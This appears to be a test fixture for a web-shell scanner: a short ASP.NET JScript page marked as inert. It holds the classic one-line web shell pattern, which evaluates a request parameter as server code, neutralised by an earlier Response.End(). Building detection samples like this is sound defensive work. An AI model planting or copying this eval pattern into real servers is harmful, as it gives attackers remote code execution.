<%@ Page Language="JScript" Debug="false" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<% var s = Request.Item["k"]; eval(s, "unsafe"); %>
